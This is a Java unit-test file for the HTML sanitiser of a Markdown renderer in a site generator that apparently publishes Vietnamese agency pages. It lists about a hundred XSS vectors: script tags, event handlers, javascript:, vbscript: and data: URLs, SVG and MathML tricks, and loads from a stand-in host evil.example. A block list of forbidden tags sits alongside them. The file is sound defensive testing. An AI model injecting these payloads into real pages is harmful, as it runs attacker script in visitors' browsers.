package vn.trang.markdown;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import vn.trang.Diags;
import vn.trang.Fixture;
import vn.trang.diag.Diagnostic;
import vn.trang.diag.Diagnostics;
import vn.trang.diag.SourcePos;
import vn.trang.pipeline.BuildResult;

/** Markdown bodies are published only after sanitising: editors' raw HTML must not run code. */
class SanitizerTest {

    private static final MarkdownRenderer MARKDOWN = new MarkdownRenderer();
    private static final String FOLDER = "/so-a/tin-tuc/";

    /** Elements that run code, load things or change the page's behaviour. */
    private static final List<String> FORBIDDEN_TAGS = List.of("script", "iframe", "frame", "frameset", "object",
            "embed", "applet", "form", "input", "button", "textarea", "select", "style", "meta", "base", "link",
            "svg", "math", "noscript", "template", "video", "audio", "source", "area", "map", "isindex", "portal", "maction",
            "use", "image", "picture", "track");

    private static final List<String> URL_ATTRIBUTES = List.of("href", "src", "action", "formaction", "xlink:href",
            "background", "poster", "data", "srcset", "cite", "lowsrc", "dynsrc", "ping");

    static Stream<String> vectors() {
        return Stream.of(
                // script
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</script>",
                "Đoạn văn <script>alert(1)</script> giữa dòng.",
                "<script\n>alert(1)</script\n>",
                // event handlers, on allowed and disallowed tags
                "<img src=x onerror=alert(1)>",
                "<img src=\"anh.jpg\" ONERROR=\"alert(1)\">",
                "<p onclick=\"alert(1)\">Nhấn vào đây</p>",
                "<a href=\"https://example.vn/\" onmouseover=\"alert(1)\">liên kết</a>",
                "<div onpointerenter=alert(1)>khối</div>",
                "<table onmouseover=alert(1)><tr><td onclick=alert(1)>ô</td></tr></table>",
                "<details open ontoggle=alert(1)><summary>x</summary></details>",
                "<body onload=alert(1)>",
                "<input autofocus onfocus=alert(1)>",
                "<video><source onerror=\"alert(1)\"></video>",
                // svg and mathml
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<math href=\"javascript:alert(1)\">CLICKME</math>",
                // javascript: links in Markdown
                "[bấm vào](javascript:alert(1))",
                "[bấm vào](JaVaScRiPt:alert(1))",
                "[bấm vào](javascript:alert(1) \"tiêu đề\")",
                "[bấm vào](&#106;avascript:alert(1))",
                "[bấm vào](javascript&#58;alert(1))",
                "<javascript:alert(1)>",
                "![ảnh](javascript:alert(1))",
                "[tham chiếu][x]\n\n[x]: javascript:alert(1)",
                // javascript: links in HTML
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
                "<a href=\"  javascript:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"java&#9;script:alert(1)\">x</a>",
                "<a href=\"java&#x0A;script:alert(1)\">x</a>",
                "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
                "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
                "<a href=\"javascript&#x3A;alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"VBScript:msgbox(1)\">x</a>",
                "<img src=\"javascript:alert(1)\">",
                "<img src=\"  jav&#x09;ascript:alert(1)\">",
                // data: URLs
                "[tải](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                // embedding
                "<iframe src=\"https://evil.example/\"></iframe>",
                "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"https://evil.example/x.swf\">",
                "<applet code=\"X.class\"></applet>",
                // forms
                "<form action=\"javascript:alert(1)\"><button>Gửi</button></form>",
                "<form><button formaction=javascript:alert(1)>X</button></form>",
                // style
                "<style>body{background:url(javascript:alert(1))}</style>",
                "<p style=\"background:url(javascript:alert(1))\">đoạn</p>",
                "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">che trang</div>",
                "<span STYLE=\"x:expression(alert(1))\">x</span>",
                // document-level tags
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<base href=\"javascript:alert(1)//\">",
                "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
                "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
                // unclosed and malformed
                "<img src=x onerror=alert(1)//",
                "<a href=\"javascript:alert(1)\"",
                "<p <script>alert(1)</script>>",
                "<<script>script>alert(1)<</script>/script>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<template><script>alert(1)</script></template>",
                "```html\n<script>alert(1)</script>\n```\n\n<script>alert(2)</script>",
                // a script after a comment, disguised schemes
                "<!-- ghi chú --><script>alert(1)</script>",
                "[x](<java\u0000script:alert(1)>)",
                "[x](<\u0001javascript:alert(1)>)",
                "[x](<java\u200Bscript:alert(1)>)",
                "<a href=\"java&#x0D;script:alert(1)\">x</a>",
                "<a href=\"&#14;javascript:alert(1)\">x</a>",
                "<a href=\"javascript:alert(1)\" ping=\"https://evil.example/\">x</a>",
                "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
                "<q cite=\"javascript:alert(1)\">x</q>",
                "<img src=x:alert(1) onerror=eval(src)>",
                // srcset, image maps, inputs, portals, MathML and SVG links
                "<img srcset=\"javascript:alert(1) 1x\">",
                "<img src=\"anh.jpg\" srcset=\"https://evil.example/p.gif 2x\">",
                "<map name=m><area shape=rect coords=0,0,9,9 href=javascript:alert(1)></map><img src=anh.jpg usemap=#m>",
                "<input type=\"image\" src=\"javascript:alert(1)\">",
                "<isindex action=javascript:alert(1) type=image>",
                "<portal src=\"https://evil.example/\"></portal>",
                "<frameset onload=alert(1)>",
                "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">X</maction></math>",
                "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x\"/></svg>",
                "<svg><image href=\"https://evil.example/p.gif\"/></svg>",
                "<embed src=\"javascript:alert(1)\">",
                "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
                "<form id=f></form><button form=f formaction=javascript:alert(1)>X</button>",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
                "<base href=\"https://evil.example/\">",
                "<link rel=\"preload\" href=\"https://evil.example/\">",
                "<div style=\"background-image:url(https://evil.example/p.gif)\">x</div>",
                // images from other hosts, and paths that could turn into another host
                "<img src=\"https://evil.example/p.gif\">",
                "<img src=\"//evil.example/p.gif\">",
                "![điểm](https://evil.example/p.gif)",
                "![điểm](//evil.example/p.gif)",
                "![điểm](../../../../..//evil.example/p.gif)",
                "<a href=\"/\\evil.example/\">x</a>",
                "<a href=\"&#x2F;&#x2F;evil.example/\">x</a>");
    }

    static void assertSafe(String html) {
        Document doc = Jsoup.parseBodyFragment(html);
        for (String tag : FORBIDDEN_TAGS) {
            assertTrue(doc.select(tag).isEmpty(), () -> "<" + tag + "> left in: " + html);
        }
        for (Element e : doc.getAllElements()) {
            for (Attribute a : e.attributes()) {
                String name = a.getKey().toLowerCase(Locale.ROOT);
                assertFalse(name.startsWith("on"), () -> "event handler " + name + " left in: " + html);
                assertFalse(name.equals("style"), () -> "style attribute left in: " + html);
                if (URL_ATTRIBUTES.contains(name)) {
                    assertFalse(dangerous(a.getValue()), () -> name + "=" + a.getValue() + " left in: " + html);
                }
            }
        }
        assertFalse(html.toLowerCase(Locale.ROOT).contains("<script"), () -> "raw <script in: " + html);
        for (Element img : doc.select("img[src]")) {
            String src = img.attr("src");
            assertTrue(src.startsWith("/") && !src.startsWith("//") && src.indexOf('\\') < 0,
                    () -> "an image from elsewhere: " + src + " in: " + html);
        }
        for (Element a : doc.select("a[href]")) {
            String href = a.attr("href");
            assertFalse(href.indexOf('\\') >= 0 || href.indexOf('\t') >= 0 || href.indexOf(' ') >= 0,
                    () -> "a link a browser reads otherwise: " + href);
            if (href.startsWith("//") || href.matches("(?i)(https?|ftp):.*")) {
                assertTrue(List.of(a.attr("rel").split(" ")).contains("noopener"), () -> "no rel=noopener: " + a);
            }
        }
    }

    /** {@link #assertSafe} as a condition. */
    static boolean safe(String html) {
        assertSafe(html);
        return true;
    }

    /** Whether a URL uses a code-running scheme, the way a browser reads it (controls and spaces ignored). */
    static boolean dangerous(String url) {
        String u = url.codePoints().filter(c -> c > 0x20 && c != 0x7f)
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString().toLowerCase(Locale.ROOT);
        return u.startsWith("javascript:") || u.startsWith("vbscript:") || u.startsWith("data:");
    }

    private static String render(String markdown, Diagnostics d) {
        return MARKDOWN.render(markdown, FOLDER, SourcePos.of("content/so-a/tin-tuc/x.md"), 0, d);
    }

    @Test
    void thereAreEnoughVectors() {
        assertTrue(vectors().count() >= 25);
    }

    @ParameterizedTest
    @MethodSource("vectors")
    void vectorIsNeutralised(String markdown) {
        String html = render(markdown, new Diagnostics());
        assertSafe(html);
    }

    @ParameterizedTest
    @MethodSource("vectors")
    void vectorIsNeutralisedInsideOtherMarkdown(String vector) {
        String markdown = "## Mục\n\n- mục một\n- " + vector.replace("\n", " ") + "\n\n> trích " + vector.replace("\n", " ")
                + "\n\n| a | b |\n|---|---|\n| " + vector.replace("\n", " ").replace("|", "\\|") + " | x |\n";
        assertSafe(render(markdown, new Diagnostics()));
    }

    @Test
    void theAssertionsThemselvesCatchUnsafeHtml() {
        // Guard against a vacuous assertSafe: it must fail on what it is meant to catch.
        for (String bad : List.of("<script>x</script>", "<img src=x onerror=y>", "<a href=\"java\tscript:x\">a</a>",
                "<p style=\"color:red\">x</p>", "<iframe></iframe>", "<a href=\"data:text/html,x\">a</a>",
                "<img src=\"https://evil.example/p.gif\">", "<img src=\"//evil.example/p.gif\">",
                "<a href=\"//evil.example/\">a</a>", "<a href=\"/\\evil.example/\">a</a>", "<area href=\"/x\">")) {
            boolean failed;
            try {
                assertSafe(bad);
                failed = false;
            } catch (AssertionError expected) {
                failed = true;
            }
            assertTrue(failed, "assertSafe accepted " + bad);
        }
    }

    @Test
    void safeMarkdownSurvives() {
        String md = """
                ## Giới thiệu chung

                Đoạn văn có **chữ đậm**, *nghiêng*, [Cổng Dịch vụ công](https://dichvucong.gov.vn/p/home.html),
                [tệp đính kèm](qd-12.pdf), [trang khác](../trang/lien-he/), [cùng thư mục](./phu-luc.docx),
                [tuyệt đối](/don-vi/), [mục](#thanh-phan-ho-so), [thư](mailto:vanphong@so-a.gov.vn)
                và [điện thoại](tel:02223822000).

                ### Thành phần hồ sơ

                | Tên giấy tờ | Số lượng |
                |---|:---:|
                | Đơn đề nghị | 01 |

                ![Quang cảnh hội nghị](anh-hoi-nghi.jpg)

                ## Giới thiệu chung

                <p>HTML <strong>đơn giản</strong> và <a href="https://vbpl.vn/">liên kết</a> được giữ.</p>
                """;
        Diagnostics d = new Diagnostics();
        String html = render(md, d);
        assertSafe(html);
        assertEquals(0, d.list().size(), () -> Diags.dump(d));
        Document doc = Jsoup.parseBodyFragment(html);

        Element h2 = doc.selectFirst("h2");
        assertEquals("Giới thiệu chung", h2.text());
        assertEquals("gioi-thieu-chung", h2.id());
        assertEquals("thanh-phan-ho-so", doc.selectFirst("h3").id());
        assertEquals(List.of("gioi-thieu-chung", "gioi-thieu-chung-2"),
                doc.select("h2").stream().map(Element::id).toList(), "repeated headings get distinct ids");

        Element table = doc.selectFirst("table");
        assertNotNull(table);
        assertEquals("div", table.parent().tagName());
        assertTrue(table.parent().hasClass("table-wrap"));
        assertEquals("Tên giấy tờ", table.selectFirst("th").text());
        assertEquals("Đơn đề nghị", table.selectFirst("td").text());

        assertEquals("noopener", doc.selectFirst("a[href=https://dichvucong.gov.vn/p/home.html]").attr("rel"));
        assertNotNull(doc.selectFirst("a[href=https://vbpl.vn/]"));
        assertNotNull(doc.selectFirst("strong"));
        assertNotNull(doc.selectFirst("em"));
        List<String> hrefs = doc.select("a").eachAttr("href");
        assertTrue(hrefs.contains("/so-a/tin-tuc/qd-12.pdf"), hrefs::toString);
        assertTrue(hrefs.contains("/so-a/trang/lien-he/"), hrefs::toString);
        assertTrue(hrefs.contains("/so-a/tin-tuc/phu-luc.docx"), hrefs::toString);
        assertTrue(hrefs.contains("/don-vi/"), hrefs::toString);
        assertTrue(hrefs.contains("#thanh-phan-ho-so"), hrefs::toString);
        assertTrue(hrefs.contains("mailto:vanphong@so-a.gov.vn"), hrefs::toString);
        assertTrue(hrefs.contains("tel:02223822000"), hrefs::toString);

        Element img = doc.selectFirst("img");
        assertEquals("/so-a/tin-tuc/anh-hoi-nghi.jpg", img.attr("src"));
        assertEquals("Quang cảnh hội nghị", img.attr("alt"));
        assertEquals("lazy", img.attr("loading"));
    }

    @Test
    void linksResolveAgainstNestedFolders() {
        String html = MARKDOWN.render("[a](phu-luc/a.pdf) [b](../b.pdf) [c](../../../../c.pdf)", "/so-a/van-ban/2025/",
                SourcePos.of("x.md"), 0, new Diagnostics());
        List<String> hrefs = Jsoup.parseBodyFragment(html).select("a").eachAttr("href");
        assertEquals(List.of("/so-a/van-ban/2025/phu-luc/a.pdf", "/so-a/van-ban/b.pdf", "/c.pdf"), hrefs);
    }

    @Test
    void unsafeHtmlAndLinksAreReportedAsWarnings() {
        Diagnostics d = new Diagnostics();
        render("Một\n\n<iframe src=\"https://x.example/\"></iframe>\n\n[x](javascript:alert(1))\n", d);
        List<Diagnostic> all = d.list();
        assertEquals(2, all.size(), () -> Diags.dump(d));
        assertTrue(all.stream().noneMatch(Diagnostic::isError));
        assertTrue(all.stream().anyMatch(x -> x.message().contains("iframe")), () -> Diags.dump(d));
        assertTrue(all.stream().anyMatch(x -> x.message().contains("javascript:")), () -> Diags.dump(d));
    }

    @Test
    void warningPointsAtTheFileLineOfTheUnsafeHtml(@TempDir Path tmp) {
        Fixture f = Fixture.standard(tmp);
        String text = String.join("\n",
                "---",                                   // 1
                "title: Tin có HTML",                    // 2
                "date: 2025-03-14",                      // 3
                "summary: Tóm tắt.",                     // 4
                "---",                                   // 5
                "Đoạn đầu.",                             // 6
                "",                                      // 7
                "<script>alert(1)</script>",             // 8
                "",                                      // 9
                "Chữ và <img src=x alt=Ảnh onerror=alert(1)> ảnh.", // 10
                "",                                      // 11
                "[x](javascript:alert(1))",              // 12
                "");
        f.write("content/so-a/tin-tuc/html.md", text);
        // the image the sanitised <img src=x> still shows: the build fails on broken links
        f.bytes("content/so-a/tin-tuc/x", new byte[] {1});
        BuildResult r = f.build();
        assertTrue(r.ok(), () -> Diags.dump(r.diagnostics()));
        List<Diagnostic> warnings = r.diagnostics().list();
        assertEquals(3, warnings.size(), () -> Diags.dump(warnings));
        String file = "content/so-a/tin-tuc/html.md";
        Diags.assertAt(warnings.get(0), file, 8, 1);
        Diags.assertMentions(warnings.get(0), "script");
        Diags.assertAt(warnings.get(1), file, 10, 8);
        Diags.assertMentions(warnings.get(1), "onerror");
        Diags.assertAt(warnings.get(2), file, 12, 1);
        Diags.assertMentions(warnings.get(2), "javascript:");
        assertTrue(warnings.stream().noneMatch(Diagnostic::isError));

        String page = Fixture.read(f.out().resolve("so-a/tin-tuc/tin-co-html/index.html"));
        Document doc = Jsoup.parse(page);
        // structured data (JSON-LD) is data, not a script that runs
        assertTrue(doc.select("script:not([type=application/ld+json])").isEmpty());
        assertSafe(doc.selectFirst(".prose").html());
        assertTrue(doc.selectFirst(".prose").text().contains("Đoạn đầu."));
    }

    @Test
    void everyVectorIsNeutralisedInABuiltPage(@TempDir Path tmp) {
        Fixture f = Fixture.standard(tmp);
        // Vectors hiding a control character are refused whole at file level (ControlCharactersTest);
        // the renderer's own handling of them is tested above.
        String body = vectors().filter(v -> vn.trang.text.ControlChars.firstForbidden(v) < 0)
                .collect(Collectors.joining("\n\n"));
        f.write("content/so-a/tin-tuc/xss.md", Fixture.md("title: XSS\ndate: 2025-01-01\nsummary: Thử.", body + "\n"));
        // the images the sanitised vectors still show: the build fails on broken links
        f.bytes("content/so-a/tin-tuc/x", new byte[] {1});
        f.bytes("content/so-a/tin-tuc/anh.jpg", vn.trang.image.TestImages.jpeg(8, 8));
        // paths the vectors meant as other hosts, kept as paths of this one (no such pages)
        f.write("themes/default/" + vn.trang.check.LinkTargets.DYNAMIC_FILE, "/evil.example/\n/\\evil.example/\n");
        BuildResult r = f.build();
        assertTrue(r.ok(), () -> Diags.dump(r.diagnostics()));
        assertTrue(r.diagnostics().warningCount() > 25, () -> Diags.dump(r.diagnostics()));
        Document doc = Jsoup.parse(Fixture.read(f.out().resolve("so-a/tin-tuc/xss/index.html")));
        // structured data (JSON-LD) is data, not a script that runs
        assertTrue(doc.select("script:not([type=application/ld+json])").isEmpty());
        // The page chrome has a legitimate search form; the editor's content is in <main>.
        assertSafe(doc.selectFirst("main").html());
    }
}
